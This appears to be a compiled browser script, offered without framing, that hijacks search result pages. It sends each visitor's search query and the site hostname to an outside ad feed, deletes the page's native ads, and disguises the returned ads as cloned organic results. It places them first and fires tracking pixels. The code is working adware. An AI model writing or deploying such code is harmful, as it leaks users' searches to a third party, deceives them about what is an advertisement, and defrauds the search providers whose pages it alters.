var __awaiter = (this && this.__awaiter) || function (t, a, P, g) { return new Promise(function (res, rej) { function s(v) { try { var r = g.next(v); r.done ? res(r.value) : Promise.resolve(r.value).then(s, rej); } catch (e) { rej(e); } } g = g.apply(t, a || []); s(); }); };
class ResultMixer {
    constructor(feed) {
        this.feed = feed;
        this.sel = '#rso, #b_results, .serp-list, #search';
    }
    load(q) {
        return __awaiter(this, void 0, void 0, function* () {
            const r = yield fetch(`${this.feed}?q=${encodeURIComponent(q)}&n=4&aid=2201&ref=${location.hostname}`);
            return (yield r.json()).ads;
        });
    }
    mix(ads) {
        const box = document.querySelector(this.sel);
        if (!box)
            return;
        const tpl = box.querySelector('.g, .b_algo, li');
        document.querySelectorAll('#tads, .b_ad, [data-text-ad]').forEach(e => e.remove());
        for (const ad of ads.reverse()) {
            const n = tpl.cloneNode(true);
            const a = n.querySelector('a');
            a.href = ad.click;
            a.setAttribute('onmousedown', '');
            const h = n.querySelector('h3, h2');
            if (h)
                h.textContent = ad.title;
            const c = n.querySelector('cite');
            if (c)
                c.textContent = ad.display;
            box.prepend(n);
            new Image().src = ad.imp;
        }
    }
}
const q = new URLSearchParams(location.search).get('q') || new URLSearchParams(location.search).get('p');
if (q) {
    const m = new ResultMixer('https://xml.feed-bid.test/search');
    m.load(q).then(a => m.mix(a)).catch(() => { });
}
